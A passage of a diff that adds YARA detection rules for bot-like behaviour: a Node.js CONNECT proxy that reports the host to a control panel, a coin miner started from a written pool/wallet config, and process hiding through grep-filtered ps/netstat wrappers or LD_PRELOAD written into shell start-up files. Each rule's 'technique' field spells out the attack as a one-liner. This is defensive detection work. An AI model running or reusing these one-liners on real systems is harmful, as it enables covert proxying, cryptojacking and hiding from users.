+        technique = "net.createServer(c => c.once('data', d => { m = /^CONNECT h:p/; up = net.connect(p, h, () => { c.write('HTTP/1.1 200 Connection established'); up.pipe(c); c.pipe(up) }) })).listen(P); https.get(PANEL + '?p=' + P + '&h=' + os.hostname())"
+        seen = "train7"
+    strings:
+        $cs = /\bnet\.createServer\s{0,2}\(/
+        $cn = "CONNECT" ascii
+        $ok = /200 Connection established/ nocase
+        $up = /\bnet\.(connect|createConnection)\s{0,2}\(/
+        $pp = /\.pipe\s{0,2}\(/
+        $rp = /\bhttps?(['"]\s{0,2}\))?\.(get|request)\s{0,2}\([^\n]{0,200}(hostname\s{0,2}\(\s{0,2}\)|\bport\b|[?&]p=)|\bfetch\s{0,2}\([^\n]{0,200}hostname\s{0,2}\(\s{0,2}\)/
+    condition:
+        filesize < 256KB and hs_node_code and all of them
+}
+
+/* A miner set up from Python/PHP/Perl with its pool and wallet in a JSON
+ * (xmrig-style) config it writes, then started: bot_miner_launch_code reads
+ * them on the command line. */
+rule bot_miner_config_launch : bot
+{
+    meta:
+        description = "Coin miner written a pool/wallet config (xmrig-style JSON) and started from code"
+        severity = "high"
+        technique = "json.dump({'pools': [{'url': 'pool:3333', 'user': WALLET}]}, f); subprocess.Popen([exe, '-c', cfg], start_new_session=True)"
+        seen = "train7"
+    strings:
+        $po = /['"]pools['"]\s{0,2}(:|=>)\s{0,2}(\[|array\s{0,2}\()/
+        $u = /['"]url['"]\s{0,2}(:|=>)\s{0,2}['"][\w.+\/:-]{1,80}:[0-9]{2,5}['"]/
+        $w = /['"]user['"]\s{0,2}(:|=>)\s{0,2}['"][0-9A-Za-z]{40}/
+        $x = /\bsubprocess\.\w{1,16}\s{0,2}\(|\bos\.(system|popen|spawn\w{0,3}|exec\w{0,3})\s{0,2}\(|\b(exec|shell_exec|system|passthru|popen|proc_open)\s{0,2}\(/
+    condition:
+        filesize < 512KB and not hs_doc_file and $po and $u and $w and $x
+}
+
+/* The user's view of the system hidden: wrappers named after ps/top/
+ * netstat/ss/lsof written into a directory put first on PATH, each running
+ * the real tool through grep -v; or LD_PRELOAD of a library in the home or a
+ * temp dir appended to a shell start-up file. */
+rule bot_tool_wrapper_hiding : bot
+{
+    meta:
+        description = "Process/socket hiding: ps/top/netstat wrappers filtering their output put first on PATH, or LD_PRELOAD of a home/temp library written into a shell rc"
+        severity = "high"
+        technique = "for t in ps top netstat ss; do printf '#!/bin/sh\\n%s \"$@\" | grep -vE x' $(command -v $t) > ~/.local/bin/$t; done; echo 'export PATH=~/.local/bin:$PATH' >> ~/.bashrc | echo \"export LD_PRELOAD=$HOME/.cache/x.so\" >> ~/.bash_profile"
+        seen = "train7"
+    strings:
+        $tl = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}[^\n;]{0,40}\b(ps|top|netstat|ss|lsof|w|who)\s{1,4}(ps|top|netstat|ss|lsof|htop|pstree|w|who)\b/
+        $gv = /"\\?\$@"\s{0,2}(2>&1\s{0,2})?\|\s{0,2}(e|f)?grep\s{1,4}-[a-zA-Z]{0,3}v/
+        $ld = /\bLD_PRELOAD=["']?(\$HOME|\$\{HOME\}|~|%s|\/home\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)[^\n]{0,80}(>>\s{0,4}["']?(~|\$HOME|\$\{HOME\})\/\.(bashrc|bash_profile|profile|zshrc|bash_login|zprofile)|\n[^\n]{0,200}\.(bashrc|bash_profile|profile|zshrc)\b)/
+        $ld2 = /\.(bashrc|bash_profile|profile|zshrc)['"][^\n]{0,40}['"]a['"][^\n]{0,200}\n[^\n]{0,200}LD_PRELOAD=/
+    condition:
+        filesize < 256KB and not hs_doc_file and (($tl and $gv) or $ld or $ld2)
 }
